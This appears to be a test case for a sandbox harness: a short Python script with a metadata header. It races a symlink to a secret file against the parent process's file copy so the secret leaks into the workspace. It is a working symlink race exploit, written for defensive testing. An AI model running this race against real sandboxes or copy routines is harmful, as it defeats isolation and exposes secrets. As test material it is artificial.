# try: exchange a file for a link to a secret while the parent copies it
# layer: session
# effect: leak: the secret is in the workspace
# want: racing
# bare: no, the parent copies files without a sandbox too
# short: yes
# limits: cpu=5s
import os, threading, time
os.symlink(SECRET, 'link')
def race():
    until = time.monotonic() + 1
    while time.monotonic() < until:
        for i in range(50):
            with open('file', 'w') as f:
                f.write('x' * i)
            os.rename('link', 'file') if os.path.islink('link') else None
            os.symlink(SECRET, 'link')
threading.Thread(target=race, daemon=True).start()
print('racing')
# ---
1
# ---
2
